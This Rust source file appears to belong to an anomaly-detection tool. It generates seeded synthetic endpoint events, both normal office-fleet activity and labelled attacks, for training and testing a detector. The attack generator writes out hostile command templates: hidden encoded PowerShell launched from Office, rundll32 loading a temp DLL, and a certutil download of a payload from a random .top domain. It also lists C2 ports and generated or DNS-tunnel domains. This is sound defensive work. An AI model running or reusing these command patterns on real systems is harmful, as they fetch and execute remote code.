//! Generated events for training and judging the model (`palisade model sample`): a small
//! office fleet's normal activity, and attacks of the kinds the model is meant to catch. Both are
//! made up by this code from a seed, so a baseline, a held-out set and a labelled attack set can
//! be made again exactly; none of it comes from a real network.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::json;

/// Which events to generate.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum SampleKind {
    /// Workstations and servers doing their daily work.
    Normal,
    /// Intrusion activity: odd process trees, encoded commands, C2 ports, generated domains,
    /// night-time logins from the internet.
    Attacks,
}

/// 2026-10-05T00:00:00Z, a Monday; generated events start here.
const START_MS: i64 = 1_791_158_400_000;
const DAY_MS: i64 = 86_400_000;

const WORKSTATIONS: usize = 30;
const SERVERS: usize = 6;

/// (parent, child, weight) of a normal workstation's process starts.
const WORKSTATION_TREES: &[(&str, &str, u32)] = &[
    ("explorer.exe", "chrome.exe", 20),
    ("explorer.exe", "msedge.exe", 8),
    ("explorer.exe", "outlook.exe", 10),
    ("explorer.exe", "winword.exe", 6),
    ("explorer.exe", "excel.exe", 6),
    ("explorer.exe", "teams.exe", 10),
    ("explorer.exe", "code.exe", 4),
    ("explorer.exe", "notepad.exe", 3),
    ("explorer.exe", "slack.exe", 3),
    ("explorer.exe", "acrord32.exe", 2),
    ("chrome.exe", "chrome.exe", 25),
    ("msedge.exe", "msedge.exe", 8),
    ("teams.exe", "teams.exe", 6),
    ("services.exe", "svchost.exe", 12),
    ("svchost.exe", "taskhostw.exe", 5),
    ("svchost.exe", "runtimebroker.exe", 4),
    ("svchost.exe", "backgroundtaskhost.exe", 3),
    ("svchost.exe", "searchprotocolhost.exe", 3),
    ("svchost.exe", "wmiprvse.exe", 2),
    ("code.exe", "git.exe", 4),
    ("code.exe", "node.exe", 2),
    ("userinit.exe", "explorer.exe", 1),
];

const SERVER_TREES: &[(&str, &str, u32)] = &[
    ("services.exe", "svchost.exe", 10),
    ("svchost.exe", "wmiprvse.exe", 4),
    ("svchost.exe", "taskhostw.exe", 4),
    ("services.exe", "sqlservr.exe", 2),
    ("services.exe", "w3wp.exe", 3),
    ("taskeng.exe", "backup.exe", 1),
];

const CDN_PREFIXES: &[&str] = &["13.107", "142.250", "151.101", "104.16", "52.97", "40.126"];

const DOMAINS: &[(&str, u32)] = &[
    ("www.google.com", 10),
    ("outlook.office365.com", 10),
    ("login.microsoftonline.com", 8),
    ("teams.microsoft.com", 8),
    ("github.com", 3),
    ("api.github.com", 3),
    ("slack.com", 3),
    ("www.bing.com", 4),
    ("update.googleapis.com", 3),
    ("settings-win.data.microsoft.com", 4),
    ("ctldl.windowsupdate.com", 3),
    ("fonts.gstatic.com", 3),
    ("intranet.corp.example", 6),
    ("fileserver.corp.example", 4),
];

fn pick<'a, T>(rng: &mut StdRng, items: &'a [(T, u32)]) -> &'a T {
    let total: u32 = items.iter().map(|(_, w)| w).sum();
    let mut at = rng.gen_range(0..total);
    for (item, weight) in items {
        if at < *weight {
            return item;
        }
        at -= weight;
    }
    &items[items.len() - 1].0
}

fn pick_tree<'a>(rng: &mut StdRng, trees: &'a [(&'a str, &'a str, u32)]) -> (&'a str, &'a str) {
    let total: u32 = trees.iter().map(|t| t.2).sum();
    let mut at = rng.gen_range(0..total);
    for (parent, child, weight) in trees {
        if at < *weight {
            return (parent, child);
        }
        at -= weight;
    }
    (trees[0].0, trees[0].1)
}

/// A time on `day`: office hours for workstations (most between 8:00 and 18:00), any hour for
/// servers.
fn time(rng: &mut StdRng, day: i64, office: bool) -> i64 {
    let hour_ms = if office {
        let hour = if rng.gen_bool(0.95) {
            rng.gen_range(8.0..18.0)
        } else {
            rng.gen_range(6.5..21.0)
        };
        (hour * 3_600_000.0) as i64
    } else {
        rng.gen_range(0..DAY_MS)
    };
    START_MS + day * DAY_MS + hour_ms
}

fn cmdline(rng: &mut StdRng, child: &str) -> String {
    let n: u32 = rng.gen_range(1..9999);
    match child {
        "chrome.exe" => format!(
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --renderer-client-id={n} --lang=en-US"#
        ),
        "msedge.exe" => format!(
            r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={n}"#
        ),
        "teams.exe" => format!(
            r#""C:\Users\user\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=renderer --app-path=resources --instance={n}"#
        ),
        "svchost.exe" => {
            let groups = [
                "netsvcs",
                "LocalService",
                "NetworkService",
                "DcomLaunch",
                "RPCSS",
            ];
            format!(
                r#"C:\Windows\system32\svchost.exe -k {} -p"#,
                groups[rng.gen_range(0..groups.len())]
            )
        }
        "winword.exe" | "excel.exe" => format!(
            r#""C:\Program Files\Microsoft Office\root\Office16\{}" /n "C:\Users\user\Documents\report-{n}.docx""#,
            child.to_uppercase()
        ),
        "git.exe" => format!("git fetch origin --prune --tags --jobs={}", n % 8 + 1),
        "node.exe" => {
            format!(r#"node "C:\Users\user\src\app\node_modules\.bin\tsc" --watch --build {n}"#)
        }
        "backup.exe" => format!(r#""D:\Backup\backup.exe" /job nightly-{}"#, n % 7),
        other => format!(r#"C:\Windows\system32\{other}"#),
    }
}

/// `count` normal events from a 30-workstation, 6-server fleet over `days` days.
pub fn normal(count: usize, days: i64, seed: u64) -> Vec<serde_json::Value> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut events: Vec<serde_json::Value> = (0..count)
        .map(|_| {
            let server = rng.gen_bool(SERVERS as f64 / (WORKSTATIONS + SERVERS) as f64);
            let (host, user) = if server {
                let s = rng.gen_range(1..=SERVERS);
                (format!("srv-{s:02}"), "NT AUTHORITY\\SYSTEM".to_string())
            } else {
                let w = rng.gen_range(1..=WORKSTATIONS);
                (format!("ws-{w:02}"), format!("CORP\\user{w:02}"))
            };
            let day = rng.gen_range(0..days);
            let at = time(&mut rng, day, !server);
            let pid: u32 = rng.gen_range(1000..60000);
            let trees = if server {
                SERVER_TREES
            } else {
                WORKSTATION_TREES
            };
            let login_user = user.trim_start_matches("CORP\\").to_string();
            activity(
                &mut rng,
                &Actor {
                    host: &host,
                    user: &user,
                    login_user: &login_user,
                    server,
                    trees,
                },
                at,
                pid,
                0.0,
            )
        })
        .collect();
    events.sort_by_key(|e| e["timestamp"].as_i64().unwrap_or(0));
    events
}

/// Who does something: the host, its user (as process events and logins name it), whether it
/// is a server, and the process trees it starts.
struct Actor<'a> {
    host: &'a str,
    user: &'a str,
    login_user: &'a str,
    server: bool,
    trees: &'a [(&'a str, &'a str, u32)],
}

/// One normal event of `actor` at `at`; `new_program_share` of a workstation's process starts
/// are programs never seen before.
fn activity(
    rng: &mut StdRng,
    actor: &Actor<'_>,
    at: i64,
    pid: u32,
    new_program_share: f64,
) -> serde_json::Value {
    match rng.gen_range(0..100) {
        0..=54 => {
            let installer;
            let (parent, child) =
                if new_program_share > 0.0 && !actor.server && rng.gen_bool(new_program_share) {
                    // Installers and updaters: a program nobody ran before, as every real fleet
                    // shows a few times a day.
                    let kind = ["setup", "update", "install", "patch"][rng.gen_range(0..4)];
                    installer = format!("{kind}-{}.exe", rng.gen_range(100..99_999));
                    ("explorer.exe", installer.as_str())
                } else {
                    pick_tree(rng, actor.trees)
                };
            json!({"type": "process_create", "timestamp": at, "host": actor.host, "pid": pid,
                "ppid": rng.gen_range(500..999), "name": child, "parent_name": parent,
                "cmdline": cmdline(rng, child), "user": actor.user})
        }
        55..=79 => {
            let (name, ip, port) = if rng.gen_bool(0.75) {
                let names = [
                    "chrome.exe",
                    "msedge.exe",
                    "teams.exe",
                    "outlook.exe",
                    "svchost.exe",
                ];
                let prefix = CDN_PREFIXES[rng.gen_range(0..CDN_PREFIXES.len())];
                let port = if rng.gen_bool(0.9) { 443 } else { 80 };
                (
                    names[rng.gen_range(0..names.len())],
                    format!(
                        "{prefix}.{}.{}",
                        rng.gen_range(0..40),
                        rng.gen_range(1..255)
                    ),
                    port,
                )
            } else {
                let ports = [445, 135, 389, 88, 53, 443];
                (
                    "svchost.exe",
                    format!("10.0.0.{}", rng.gen_range(10..20)),
                    ports[rng.gen_range(0..ports.len())],
                )
            };
            json!({"type": "network_connection", "timestamp": at, "host": actor.host, "pid": pid,
                "name": name, "remote_ip": ip, "remote_port": port, "protocol": "tcp"})
        }
        80..=94 => {
            let name = if rng.gen_bool(0.2) {
                format!("e{}.dscx.akamaiedge.net", rng.gen_range(1..9999))
            } else {
                pick(rng, DOMAINS).to_string()
            };
            json!({"type": "dns_query", "timestamp": at, "host": actor.host, "pid": pid,
                "name": "svchost.exe", "query_name": name})
        }
        _ => {
            let (user, method, source) = if actor.server {
                let admins = ["admin.alice", "admin.bob", "svc-backup"];
                (
                    admins[rng.gen_range(0..admins.len())].to_string(),
                    "ssh-key",
                    format!("10.0.1.{}", rng.gen_range(2..40)),
                )
            } else {
                (
                    actor.login_user.to_string(),
                    "kerberos",
                    format!("10.0.2.{}", rng.gen_range(2..250)),
                )
            };
            let outcome = if rng.gen_bool(0.03) {
                "failure"
            } else {
                "success"
            };
            json!({"type": "login", "timestamp": at, "host": actor.host, "user": user,
                "source_ip": source, "outcome": outcome, "method": method})
        }
    }
}

fn random_text(rng: &mut StdRng, alphabet: &[u8], len: usize) -> String {
    (0..len)
        .map(|_| alphabet[rng.gen_range(0..alphabet.len())] as char)
        .collect()
}

const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const LOWER_DIGITS: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";

/// `count` attack events on the same fleet over `days` days; each is labelled in `extra.label`.
pub fn attacks(count: usize, days: i64, seed: u64) -> Vec<serde_json::Value> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut events: Vec<serde_json::Value> = (0..count)
        .map(|i| {
            let w = rng.gen_range(1..=WORKSTATIONS);
            let host = format!("ws-{w:02}");
            let day = rng.gen_range(0..days);
            // Half in office hours (hiding in the crowd), half at any hour.
            let office = rng.gen_bool(0.5);
            let at = time(&mut rng, day, office);
            let pid: u32 = rng.gen_range(1000..60000);
            let user = format!("CORP\\user{w:02}");
            // One in ten hides well: a common process talking out on a common port, at night
            // or on an unusual one. The model is not expected to catch all of these.
            if i % 10 == 9 {
                let (name, port, label) = if rng.gen_bool(0.5) {
                    ("svchost.exe", 443, "quiet-https-c2")
                } else {
                    ("chrome.exe", 8443, "browser-odd-port")
                };
                return json!({"type": "network_connection", "timestamp": at, "host": host, "pid": pid, "name": name,
                    "remote_ip": format!("{}.{}.{}.{}", rng.gen_range(45..200), rng.gen_range(0..255), rng.gen_range(0..255), rng.gen_range(1..255)),
                    "remote_port": port, "protocol": "tcp", "label": label});
            }
            match i % 4 {
                0 => {
                    let technique = rng.gen_range(0..4);
                    let (parent, child, cmdline, label) = match technique {
                        0 => {
                            let parent = ["winword.exe", "excel.exe", "outlook.exe"][rng.gen_range(0..3)];
                            let child = ["powershell.exe", "cmd.exe", "mshta.exe", "wscript.exe"][rng.gen_range(0..4)];
                            let len = rng.gen_range(200..900);
                            (parent.to_string(), child.to_string(), format!("{child} -nop -w hidden -enc {}", random_text(&mut rng, BASE64, len)), "office-child-encoded")
                        }
                        1 => {
                            let dll = random_text(&mut rng, LOWER_DIGITS, 8);
                            ("explorer.exe".into(), "rundll32.exe".into(), format!(r#"rundll32.exe C:\Users\Public\AppData\Local\Temp\{dll}.dll,DllRegisterServer {}"#, random_text(&mut rng, LOWER_DIGITS, 16)), "rundll32-temp-dll")
                        }
                        2 => {
                            let name = format!("{}.exe", random_text(&mut rng, LOWER_DIGITS, 7));
                            ("cmd.exe".into(), name.clone(), format!(r#"C:\ProgramData\{name} -k {}"#, random_text(&mut rng, LOWER_DIGITS, 32)), "random-binary")
                        }
                        _ => ("wmiprvse.exe".into(), "certutil.exe".into(), format!("certutil.exe -urlcache -split -f http://{}.top/{}.bin C:\\Users\\Public\\{}.exe", random_text(&mut rng, LOWER_DIGITS, 10), random_text(&mut rng, LOWER_DIGITS, 6), random_text(&mut rng, LOWER_DIGITS, 6)), "certutil-download"),
                    };
                    json!({"type": "process_create", "timestamp": at, "host": host, "pid": pid, "ppid": rng.gen_range(1000..60000),
                        "name": child, "parent_name": parent, "cmdline": cmdline, "user": user, "label": label})
                }
                1 => {
                    let name = ["rundll32.exe", "powershell.exe", "regsvr32.exe", "mshta.exe"][rng.gen_range(0..4)];
                    let port = [4444, 1337, 31337, 6667, 8081, 9001, 50050, 2222][rng.gen_range(0..8)];
                    json!({"type": "network_connection", "timestamp": at, "host": host, "pid": pid, "name": name,
                        "remote_ip": format!("{}.{}.{}.{}", rng.gen_range(45..200), rng.gen_range(0..255), rng.gen_range(0..255), rng.gen_range(1..255)),
                        "remote_port": port, "protocol": "tcp", "label": "c2-port"})
                }
                2 => {
                    let (name, label) = if rng.gen_bool(0.5) {
                        let len = rng.gen_range(12..22);
                        let tld = [".top", ".xyz", ".info", ".biz"][rng.gen_range(0..4)];
                        (format!("{}{tld}", random_text(&mut rng, LOWER_DIGITS, len)), "generated-domain")
                    } else {
                        let len = rng.gen_range(40..60);
                        (format!("{}.t.{}.net", random_text(&mut rng, b"abcdefghijklmnopqrstuvwxyz234567", len), random_text(&mut rng, LOWER_DIGITS, 8)), "dns-tunnel")
                    };
                    json!({"type": "dns_query", "timestamp": at, "host": host, "pid": pid, "name": "powershell.exe",
                        "query_name": name, "label": label})
                }
                _ => {
                    let user = ["administrator", "backup", "test", "guest", "admin"][rng.gen_range(0..5)];
                    json!({"type": "login", "timestamp": at, "host": format!("srv-{:02}", rng.gen_range(1..=SERVERS)), "user": user,
                        "source_ip": format!("{}.{}.{}.{}", rng.gen_range(45..200), rng.gen_range(0..255), rng.gen_range(0..255), rng.gen_range(1..255)),
                        "outcome": if rng.gen_bool(0.7) { "failure" } else { "success" }, "method": "password", "label": "internet-login"})
                }
            }
        })
        .collect();
    events.sort_by_key(|e| e["timestamp"].as_i64().unwrap_or(0));
    events
}

/// A generated fleet's shape: how many hosts of each kind and how they are named, how much
/// each workstation's habits differ from the others', how many hosts and users join after the
/// learning period, how often a never-seen program starts, and the labelled attacks. Used to
/// judge the whole learn-then-score cycle on fleets unlike the one the shipped model knows.
#[derive(Debug, Clone, PartialEq)]
pub struct Fleet {
    pub name: &'static str,
    pub seed: u64,
    pub workstations: usize,
    pub servers: usize,
    /// Host name prefixes (`ws-`, `srv-`); the number follows, two digits.
    pub workstation_prefix: &'static str,
    pub server_prefix: &'static str,
    /// Account prefix (`CORP\\user`); workstation `n` is used by account `n`.
    pub user_prefix: &'static str,
    /// Days of learning (the baseline), then days of normal activity and attacks to judge on.
    pub learning_days: i64,
    pub later_days: i64,
    pub events_per_day: usize,
    /// Workstations, each with its own new account, that appear only after learning.
    pub joiners: usize,
    /// 0: every workstation starts programs in the fleet's proportions; 1: each has its own
    /// mix, and leaves some of the optional programs out entirely.
    pub habits: f64,
    /// Share of workstation process starts that are programs never seen before (installers).
    pub new_program_share: f64,
    pub attacks: usize,
}

/// A fleet's events: the learning period (the baseline), and after it normal activity and
/// labelled attacks (each with `label`).
#[derive(Debug, Clone, PartialEq)]
pub struct FleetEvents {
    pub learning: Vec<serde_json::Value>,
    pub later_normal: Vec<serde_json::Value>,
    pub attacks: Vec<serde_json::Value>,
}

/// Programs only some workstations use; with strong habits a workstation may never start them.
const OPTIONAL: &[&str] = &[
    "code.exe",
    "git.exe",
    "node.exe",
    "slack.exe",
    "acrord32.exe",
];

impl Fleet {
    /// The four shapes the table in docs/anomaly.md is made of.
    pub fn shapes() -> Vec<Fleet> {
        vec![
            Fleet {
                name: "office",
                seed: 11,
                workstations: 30,
                servers: 6,
                workstation_prefix: "ws-",
                server_prefix: "srv-",
                user_prefix: "CORP\\user",
                learning_days: 14,
                later_days: 7,
                events_per_day: 1500,
                joiners: 4,
                habits: 0.3,
                new_program_share: 0.001,
                attacks: 1000,
            },
            Fleet {
                name: "shop",
                seed: 12,
                workstations: 8,
                servers: 2,
                workstation_prefix: "pc-",
                server_prefix: "nas-",
                user_prefix: "SHOP\\staff",
                learning_days: 10,
                later_days: 7,
                events_per_day: 400,
                joiners: 2,
                habits: 0.6,
                new_program_share: 0.002,
                attacks: 500,
            },
            Fleet {
                name: "campus",
                seed: 13,
                workstations: 120,
                servers: 10,
                workstation_prefix: "lab-",
                server_prefix: "core-",
                user_prefix: "UNI\\s",
                learning_days: 14,
                later_days: 7,
                events_per_day: 3000,
                joiners: 15,
                habits: 0.1,
                new_program_share: 0.003,
                attacks: 1000,
            },
            Fleet {
                name: "developers",
                seed: 14,
                workstations: 20,
                servers: 4,
                workstation_prefix: "dev-",
                server_prefix: "build-",
                user_prefix: "ENG\\dev",
                learning_days: 14,
                later_days: 7,
                events_per_day: 1000,
                joiners: 3,
                habits: 0.9,
                new_program_share: 0.002,
                attacks: 1000,
            },
        ]
    }

    /// The fleet's events, the same for the same shape.
    pub fn generate(&self) -> FleetEvents {
        let mut rng = StdRng::seed_from_u64(self.seed);
        let total = self.workstations + self.joiners;
        let workstations: Vec<(String, String)> = (1..=total)
            .map(|w| {
                (
                    format!("{}{w:02}", self.workstation_prefix),
                    format!("{}{w:02}", self.user_prefix),
                )
            })
            .collect();
        // Each workstation's habits: the fleet's weights, each scaled by up to `habits` either
        // way, and with strong habits some optional programs never started at all.
        let trees: Vec<Vec<(&str, &str, u32)>> = (0..total)
            .map(|_| {
                WORKSTATION_TREES
                    .iter()
                    .map(|&(parent, child, weight)| {
                        let dropped = OPTIONAL.contains(&child) && rng.gen_bool(self.habits * 0.7);
                        let factor = 1.0 + self.habits * rng.gen_range(-0.9..2.0);
                        let weight = if dropped {
                            0
                        } else {
                            ((f64::from(weight) * factor).round() as u32).max(1)
                        };
                        (parent, child, weight)
                    })
                    .collect()
            })
            .collect();
        let server_share = self.servers as f64 / (self.workstations + self.servers) as f64;
        let mut period = |first_day: i64, days: i64, joiners: bool| {
            let count = self.events_per_day * days as usize;
            let active = if joiners { total } else { self.workstations };
            let mut events: Vec<serde_json::Value> = (0..count)
                .map(|_| {
                    let server = rng.gen_bool(server_share);
                    let at;
                    let pid: u32;
                    if server {
                        let s = rng.gen_range(1..=self.servers);
                        let host = format!("{}{s:02}", self.server_prefix);
                        let day = first_day + rng.gen_range(0..days);
                        at = time(&mut rng, day, false);
                        pid = rng.gen_range(1000..60000);
                        activity(
                            &mut rng,
                            &Actor {
                                host: &host,
                                user: "NT AUTHORITY\\SYSTEM",
                                login_user: "",
                                server: true,
                                trees: SERVER_TREES,
                            },
                            at,
                            pid,
                            0.0,
                        )
                    } else {
                        // Joiners arrive on the first later day; they are as busy as the rest.
                        let w = rng.gen_range(0..active);
                        let (host, user) = &workstations[w];
                        let day = first_day + rng.gen_range(0..days);
                        at = time(&mut rng, day, true);
                        pid = rng.gen_range(1000..60000);
                        let login_user = user.rsplit('\\').next().unwrap_or(user);
                        activity(
                            &mut rng,
                            &Actor {
                                host,
                                user,
                                login_user,
                                server: false,
                                trees: &trees[w],
                            },
                            at,
                            pid,
                            self.new_program_share,
                        )
                    }
                })
                .collect();
            events.sort_by_key(|e| e["timestamp"].as_i64().unwrap_or(0));
            events
        };
        let learning = period(0, self.learning_days, false);
        let later_normal = period(self.learning_days, self.later_days, true);
        // The attacks of `attacks`, moved onto this fleet's hosts and accounts (joiners
        // included) and into the later days.
        let mut attacks = attacks(self.attacks, self.later_days, self.seed ^ 0x00a7_7ac4);
        for event in &mut attacks {
            let host = event["host"].as_str().unwrap_or_default().to_string();
            if host.starts_with("srv-") {
                let s = rng.gen_range(1..=self.servers);
                event["host"] = json!(format!("{}{s:02}", self.server_prefix));
            } else {
                let (host, user) = &workstations[rng.gen_range(0..total)];
                event["host"] = json!(host);
                if event.get("user").is_some() {
                    event["user"] = json!(user);
                }
            }
            let at = event["timestamp"].as_i64().unwrap_or(START_MS);
            event["timestamp"] = json!(at + self.learning_days * DAY_MS);
        }
        FleetEvents {
            learning,
            later_normal,
            attacks,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_events() {
        assert_eq!(normal(50, 3, 7), normal(50, 3, 7));
        assert_ne!(normal(50, 3, 7), normal(50, 3, 8));
        assert_eq!(attacks(20, 3, 7), attacks(20, 3, 7));
    }

    #[test]
    fn generated_events_are_valid_events() {
        for value in normal(200, 2, 1).into_iter().chain(attacks(40, 2, 1)) {
            let text = value.to_string();
            crate::event::normalize(text.as_bytes()).unwrap_or_else(|e| panic!("{text}: {e}"));
        }
    }
}
